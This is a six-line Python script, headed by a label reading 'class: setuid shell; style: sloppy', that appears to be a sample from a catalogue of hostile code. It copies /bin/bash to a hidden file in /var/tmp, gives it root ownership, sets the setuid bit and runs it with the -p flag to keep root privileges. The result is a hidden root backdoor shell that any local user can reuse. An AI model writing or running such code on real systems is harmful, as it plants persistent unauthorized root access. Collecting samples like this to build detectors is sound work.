# class: setuid shell; style: sloppy
import shutil, os, stat
shutil.copy('/bin/bash','/var/tmp/.b')
os.chown('/var/tmp/.b',0,0)
os.chmod('/var/tmp/.b', 0o4755)
os.system('/var/tmp/.b -p -c id')
